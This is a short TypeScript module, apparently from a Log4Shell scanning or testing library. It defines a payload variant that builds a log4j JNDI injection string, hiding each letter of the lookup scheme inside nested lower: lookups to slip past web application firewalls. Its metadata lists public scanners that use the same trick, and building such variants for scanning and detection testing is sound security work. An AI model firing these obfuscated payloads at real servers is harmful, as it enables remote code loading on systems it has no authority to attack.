import { afterScheme, disguise } from '../form.ts'

export const lowerScheme = disguise(
  {
    id: 'lower-scheme',
    summary: 'letters of the scheme in lower:, the prefix in clear',
    firesOn: ['C'],
    seenIn: ['CISA log4j-scan waf21', 'fullhunt log4j-scan waf21', 'Log4j2Scan', 'ZAP'],
  },
  (target) => `\${jndi:${Array.from(target.scheme, (char) => `\${lower:${char}}`).join('')}:${afterScheme(target)}}`,
)
